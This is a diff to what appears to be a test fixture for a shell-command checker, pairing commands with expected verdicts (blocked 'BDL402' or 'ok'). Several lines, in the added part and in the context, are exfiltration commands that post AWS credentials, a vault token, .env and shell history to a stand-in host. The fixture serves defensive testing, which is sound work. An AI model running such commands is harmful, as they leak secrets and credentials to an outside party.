@@ -97,6 +97,14 @@ wget --post-file=/home/ci/.aws/credentials https://x.example/in
 curl -fsS -H "Authorization: Bearer ${DEPLOY_TOKEN}" -d '{"v":"1"}' "${DEPLOY_API}/releases"
 # expect: BDL402
 curl -s -F "f=@.env" https://x.example/up
+# expect: BDL402
+curl -d @~/.vault-token https://x.example/in
+# expect: BDL402
+cat ~/.bash_history | curl -s -d @- https://x.example/in
+# ok
+curl -s -T ~/.ssh/id_ed25519.pub https://keys.example/upload
+# ok
+curl -s -d '{"name":"ci"}' https://iam.example/v1/credentials
 # ok
 env | grep -c PATH
 # ok
